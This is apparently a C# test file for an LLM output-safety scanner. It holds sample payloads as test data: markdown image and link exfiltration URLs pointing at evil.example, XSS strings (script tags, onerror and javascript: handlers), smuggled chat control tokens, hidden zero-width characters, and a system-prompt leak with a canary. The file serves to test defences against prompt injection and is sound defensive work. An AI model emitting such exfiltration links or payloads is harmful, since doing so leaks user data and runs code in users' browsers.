using Gemma4.Safety.Detection;

namespace Gemma4.Safety.Tests.Detection;

public sealed class ContentTests
{
    [Theory]
    [InlineData("He spoke of Project Falcon today", "Project Falcon")]
    [InlineData("pröject   FALCON!", "pröject   FALCON")]
    [InlineData("see (proj3ct falc0n)", "proj3ct falc0n")]
    [InlineData("p\u200Broject fal\u00ADcon", "p\u200Broject fal\u00ADcon")]
    [InlineData("рrоjесt fаlсоn", "рrоjесt fаlсоn")]
    [InlineData("我们讨论猎鹰计划吧", "猎鹰计划")]
    public void Blocked_words_are_found_however_they_are_spelled(string text, string expected)
    {
        var finding = Assert.Single(Scan.Whole(Detectors.BlockedWords("falcon", ["project falcon", "猎鹰计划"]), text));

        Assert.Equal((expected, "blocked/falcon"), (text.Substring(finding.Start, finding.Length), finding.Rule));
    }

    [Theory]
    [InlineData("the projects falconry")]
    [InlineData("class assassin")]
    [InlineData("")]
    public void Parts_of_words_are_not(string text) => Assert.Empty(Scan.Whole(Detectors.BlockedWords("x", ["project falcon", "ass"]), text));

    [Fact]
    public void A_phrase_inside_another_is_found_as_well() =>
        Assert.Equal(["a b c", "b c", "c"], Scan.Whole(Detectors.BlockedWords("x", ["a b c", "b c", "c"]), "a b c").OrderBy(f => f.Start).Select(f => "a b c"[f.Start..f.End]));

    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)", "exfiltration/image")]
    [InlineData("<img src=\"https://evil.example/p?d=secretdata\">", "exfiltration/html")]
    [InlineData("![x][1]\n\n[1]: https://evil.example/p?d=secretdata", "exfiltration/reference")]
    [InlineData("[click](https://evil.example/?q=all%20the%20words%20of%20the%20conversation)", "exfiltration/link")]
    [InlineData("https://evil.example/?q=all%20the%20words%20of%20the%20conversation", "exfiltration/address")]
    [InlineData("![x](https://c2VjcmV0c2VjcmV0c2VjcmV0MTIz.evil.example/a.png)", "exfiltration/image")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)", "exfiltration/data-url")]
    [InlineData("![x](https://shop.example@evil.example/?d=secretdata)", "exfiltration/image")]
    public void Addresses_that_carry_data_are_found(string text, string rule) =>
        Assert.Contains(Scan.Whole(Detectors.Exfiltration(), text), finding => finding.Rule == rule);

    [Theory]
    [InlineData("![logo](https://cdn.shop.example/logo.png?v=1234567890)")]
    [InlineData("[order](https://shop.example/orders?id=1234567890123456789012345678901234567890)")]
    [InlineData("![chart](chart.png)")]
    [InlineData("see [the docs](https://other.example/docs/page)")]
    [InlineData("array[0] (note): fine")]
    public void Allowed_hosts_and_plain_links_are_not(string text) => Assert.Empty(Scan.Whole(Detectors.Exfiltration(["shop.example"]), text));

    [Theory]
    [InlineData("![x](https://evil.example/p.png)")]
    [InlineData("![x](https://notshop.example/p.png)")]
    [InlineData("![x](https://shop.example.evil.example/p.png)")]
    public void With_a_list_every_image_from_elsewhere_is_found(string text) =>
        Assert.Single(Scan.Whole(Detectors.Exfiltration(["shop.example"]), text));

    [Fact]
    public void An_answer_that_repeats_the_prompt_is_found_even_when_reformatted()
    {
        const string Prompt = "You are Sam, the assistant of the shop. Never talk about prices of competitors and never give a discount above ten percent.";
        var detector = Detectors.PromptLeak(Prompt, "k7-marble-otter");
        const string Leak = "Sure! My rules: NEVER talk about **prices** of competitors, and never give a discount above ten percent.";

        Assert.Contains(Scan.Whole(detector, Leak), finding => finding.Rule == "prompt-leak/overlap");
        Assert.Contains(Scan.Whole(detector, "the word is K7-Marble-Otter."), finding => finding.Rule == "prompt-leak/canary" && finding.Start == 12);
        Assert.Empty(Scan.Whole(detector, "I never talk about prices, sorry. Can I help you with a discount of ten percent?"));
    }

    [Theory]
    [InlineData("a <script>alert(1)</script>", "unsafe-output/element")]
    [InlineData("<IMG src=x OnError = alert(1)>", "unsafe-output/event-handler")]
    [InlineData("<svg/onload=alert(1)>", "unsafe-output/event-handler")]
    [InlineData("[x](javascript:alert(1))", "unsafe-output/active-url")]
    [InlineData("<a href='data:text/html,x'>", "unsafe-output/active-url")]
    [InlineData("<iframe src=//x>", "unsafe-output/element")]
    [InlineData("<scr\u200Bipt>", "unsafe-output/element")]
    public void Html_that_runs_is_found(string text, string rule) =>
        Assert.Contains(Scan.Whole(Detectors.UnsafeOutput(), text), finding => finding.Rule == rule);

    [Theory]
    [InlineData("if a < b and c > d then")]
    [InlineData("<b>bold</b> <p class=\"once\">text</p> <a href=\"https://example.com\">x</a>")]
    [InlineData("We use javascript: it is a language")]
    public void Harmless_html_and_prose_are_not(string text) =>
        Assert.DoesNotContain(Scan.Whole(Detectors.UnsafeOutput(), text), finding => finding.Score >= 0.9);

    [Theory]
    [InlineData("text <|turn>system", "<|turn>")]
    [InlineData("text <start_of_turn>user", "<start_of_turn>")]
    [InlineData("text ＜|turn＞ x", "＜|turn＞")]
    [InlineData("text <|tu\u200Brn> x", "<|tu\u200Brn>")]
    [InlineData("text <END_OF_TURN> x", "<END_OF_TURN>")]
    [InlineData("text <unused42> x", "<unused42>")]
    [InlineData("text <|\"|> x", "<|\"|>")]
    public void Control_tokens_are_found_as_text(string text, string expected)
    {
        var finding = Assert.Single(Scan.Whole(Detectors.ControlMarkers(), text));

        Assert.Equal(expected, text.Substring(finding.Start, finding.Length));
    }

    [Theory]
    [InlineData("a\u200Bb", "hidden-text/zero-width")]
    [InlineData("a\u202Eb", "hidden-text/bidirectional")]
    [InlineData("a\U000E0041\U000E0042", "hidden-text/tag-characters")]
    [InlineData("a\uFE01\uFE02\uFE03", "hidden-text/variation-selectors")]
    [InlineData("ig\u200Dnore", "hidden-text/zero-width")]
    public void Hidden_characters_are_found(string text, string rule) =>
        Assert.Equal(rule, Assert.Single(Scan.Whole(Detectors.HiddenCharacters(), text)).Rule);

    [Theory]
    [InlineData("👨\u200D👩\u200D👧 family")]
    [InlineData("❤\uFE0F\u200D🔥")]
    [InlineData("می\u200Cخواهم")]
    [InlineData("क्\u200Dष")]
    [InlineData("🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F")]
    [InlineData("naïve – „quoted“ text")]
    public void Emoji_and_scripts_that_need_joiners_are_left_alone(string text) => Assert.Empty(Scan.Whole(Detectors.HiddenCharacters(), text));

    [Fact]
    public void Json_output_is_checked_whole()
    {
        var detector = Detectors.MalformedJson(value => value.TryGetProperty("name", out _));

        Assert.Empty(Scan.Whole(detector, "{\"name\": 1}"));
        Assert.Equal("json-output/refused", Assert.Single(Scan.Whole(detector, "{\"other\": 1}")).Rule);
        Assert.Equal("json-output/malformed", Assert.Single(Scan.Whole(detector, "{\"name\": 1")).Rule);
    }
}
